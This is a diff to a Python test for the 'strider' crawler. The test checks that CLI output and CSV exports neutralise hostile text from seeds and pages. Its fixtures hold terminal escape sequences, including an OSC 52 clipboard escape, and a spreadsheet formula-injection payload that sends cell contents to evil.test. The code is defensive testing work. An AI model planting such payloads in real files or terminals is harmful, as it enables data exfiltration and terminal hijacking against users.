@@ -8,6 +8,7 @@ import time
 from collections.abc import Iterable
 from contextlib import AsyncExitStack, suppress
 from pathlib import Path
+from random import Random
 from urllib.parse import urlsplit
 
 import pytest
@@ -16,14 +17,8 @@ from strider.api import log_events
 from strider.contracts.avro.codec import Codec
 from strider.contracts.avro.schema_store import SchemaStore
 from strider.contracts.generated.events import SeedSubmitted
-from strider.contracts.generated.topics import (
-    JOB_EVENTS,
-    LINK_INGESTION_DLQ,
-    PAGES_PARSED,
-    PAGES_VALIDATED,
-    SEEDS_SUBMITTED,
-    URLS_DECIDED,
-)
+from strider.contracts.generated.topics import LINK_INGESTION_DLQ, PAGES_VALIDATED, SEEDS_SUBMITTED
+from strider.contracts.seed_names import RAW_PREFIX
 from strider.runtime.observability import log_events as runtime_events
 from strider.testing.site.plan import page_html, sentences
 from tests.figures import record_figure
@@ -118,7 +113,7 @@ FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"ok")'
 
 def hostile_reply(path: str) -> Reply:
     title = FORMULA if path == "/formula" else f"A page {ESCAPES}"
-    page = page_html(title, sentences(Random(path), 1_500), ["/formula"])
+    page = page_html(title, sentences(Random(title), 1_500), ["/formula"])
     return robots_allowing(path) or (200, PAGE[1], page)
 
 
@@ -128,31 +123,35 @@ def avro_seed(url: str) -> bytes:
 
 @pytest.mark.fault("A11")
 async def test_no_command_prints_what_a_terminal_or_a_spreadsheet_obeys(stage: Stage, tmp_path: Path) -> None:
-    """Texts of seeds, JSON and Avro, and of pages; the commands that tell of them, while the pipeline runs."""
-    refused: dict[str, dict[str, object]] = {
-        "http://127.0.0.1:9/field": {f"max_dept{ESCAPES}": 1},
-        "http://127.0.0.1:9/name": {"job_id": f"job{ESCAPES}"},
-        "http://127.0.0.1:9/formula": {"job_id": FORMULA, "delay": 86_400},
+    """Texts of seeds, JSON and Avro, and of pages; the commands that print them, while the pipeline runs."""
+    refused: dict[str, tuple[str, dict[str, object]]] = {
+        "http://127.0.0.1:9/field": ("unknown_field", {f"max_dept{ESCAPES}": 1}),
+        "http://127.0.0.1:9/name": ("job_id", {"job_id": f"job{ESCAPES}"}),
+        "http://127.0.0.1:9/formula": ("delay", {"job_id": FORMULA, "delay": 86_400}),
     }
     with attacker_site(hostile_reply, address="127.9.8.1") as site:
         async with stage.unharmed_neighbours("A11 printed texts"):
-            for url, fields in refused.items():
+            for url, (_, fields) in refused.items():
                 stage.send({"url": url, **fields})
             stage.send(avro_seed(f"http://127.0.0.1:9/avro{ESCAPES}"))
-            stage.send({"url": f"{site.origin}/{ESCAPES}", "job_id": "escapes"})
-            for url, fields in refused.items():
-                await stage.until_refused(url, field=next(iter(fields))[:8])
-            await until(
-                lambda: any(path == "/formula" for path, _ in site.requests),
-                what="the link of the hostile page is crawled",
-                tell=stage.ring.tell,
-                seconds=60,
-            )
+            pages = [f"{site.origin}/{path}" for path in ("escapes", "formula")]
+            for url in (*pages, f"{site.origin}/{ESCAPES}"):
+                stage.send({"url": url, "job_id": "escapes"})
+            for url, (field, _) in refused.items():
+                await stage.until_refused(url, field=field)
+
+            async def are_stored() -> bool:
+                return len(await stage.ring.pages_of(f"{RAW_PREFIX}escapes", pages)) == len(pages)
+
+            await until(are_stored, what="the hostile pages are stored", tell=stage.ring.tell, seconds=60)
             printed = "".join([await stage.command(*words) for words in commands_about(refused)])
             file = tmp_path / "pages.csv"
-            printed += await stage.command("crawl", site.origin, "-o", str(file), "--max-pages", "2")
+            printed += await stage.command(
+                "crawl", site.origin, "-o", str(file), "--format", "csv", "--max-pages", "2"
+            )
 
     assert sorted(set(printed) & FORBIDDEN) == []
+    assert "max_dept" in printed, "the dead letter names the field"
     assert "\\u001b]52" in printed, "the search is no proof unless commands print what it searches for"
     with file.open(encoding="utf-8", newline="") as opened:
         titles = {row["title"] for row in csv.DictReader(opened)}
@@ -162,11 +161,9 @@ async def test_no_command_prints_what_a_terminal_or_a_spreadsheet_obeys(stage: S
 
 def commands_about(refused: Iterable[str]) -> list[tuple[str, ...]]:
     """Return commands that print what senders and sites wrote."""
-    topics = (SEEDS_SUBMITTED, URLS_DECIDED, LINK_INGESTION_DLQ, PAGES_PARSED, PAGES_VALIDATED, JOB_EVENTS)
+    topics = (SEEDS_SUBMITTED, LINK_INGESTION_DLQ, PAGES_VALIDATED)
     return [
-        *(("why", url) for url in refused),
-        *(("why", url, "--json") for url in refused),
+        *(("why", url, "--quick") for url in refused),
         *(("topics", "tail", topic.name, "--limit", "40") for topic in topics),
         ("runs", "list"),
-        ("hosts", "list"),
     ]
